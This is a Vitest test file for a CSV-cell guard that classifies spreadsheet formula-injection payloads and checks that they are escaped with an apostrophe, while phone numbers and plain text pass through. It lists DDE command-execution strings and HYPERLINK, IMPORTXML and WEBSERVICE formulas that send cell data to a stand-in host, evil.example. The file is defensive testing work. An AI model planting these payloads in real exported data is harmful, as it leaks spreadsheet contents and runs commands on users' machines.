import { describe, expect, it } from 'vitest';
import { cellForm, safeCell } from '../../../src/lists/csv-cell';

// Payloads of OWASP's CSV injection page and the usual test lists, and what the guard makes of each.
const table: [payload: string, form: 'plain' | 'guarded' | 'phones'][] = [
  ['=1+1', 'guarded'],
  ["=cmd|' /C calc'!A0", 'guarded'],
  ["+1+cmd|' /C calc'!A0", 'guarded'],
  ["-2+3+cmd|' /C calc'!A0", 'guarded'],
  ["@SUM(1+9)*cmd|' /C calc'!A0", 'guarded'],
  ['=HYPERLINK("http://evil.example/?leak="&A1,"Error: please click")', 'guarded'],
  ['=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")', 'guarded'],
  ['=WEBSERVICE("http://evil.example/"&A1)', 'guarded'],
  ['\t=1+1', 'guarded'],
  ['\r=1+1', 'guarded'],
  ['\u0000=1+1', 'guarded'],
  [' =1+1', 'guarded'],
  ['\u3000=1+1', 'guarded'],
  ['\tplain after a tab', 'guarded'],
  ['@alice', 'guarded'],
  ['-', 'guarded'],
  ['=+8613800138000', 'guarded'],
  ['+86 138 0013 8000', 'guarded'],
  ['+8613800138000\n=1+1', 'guarded'],
  ['+8613800138000; =1+1', 'guarded'],
  // Not a formula start: spreadsheets read these as text.
  ['DDE ("cmd";"/C calc";"!A0")A0', 'plain'],
  ['王建国', 'plain'],
  ["O'Brien", 'plain'],
  ['a=b', 'plain'],
  ['', 'plain'],
  // Data that cannot call anything: a number, E.164 phone numbers.
  ['-5', 'plain'],
  ['+1e3', 'plain'],
  ['3.14', 'plain'],
  ['+8613800138000', 'phones'],
  ['+8613800138000; +14155550100', 'phones'],
];

describe('a CSV cell and formula injection', () => {
  it.each(table)('%j is %s', (payload, form) => {
    expect(cellForm(payload)).toBe(form);
  });

  it('guards with an apostrophe, puts a tab before phone numbers for a spreadsheet and writes them as stored for a program', () => {
    expect(safeCell('=1+1', true)).toBe("'=1+1");
    expect(safeCell('=1+1', false)).toBe("'=1+1");
    expect(safeCell('+8613800138000', true)).toBe('\t+8613800138000');
    expect(safeCell('+8613800138000', false)).toBe('+8613800138000');
    expect(safeCell('-5', true)).toBe('-5');
    expect(safeCell('王建国', true)).toBe('王建国');
  });

});
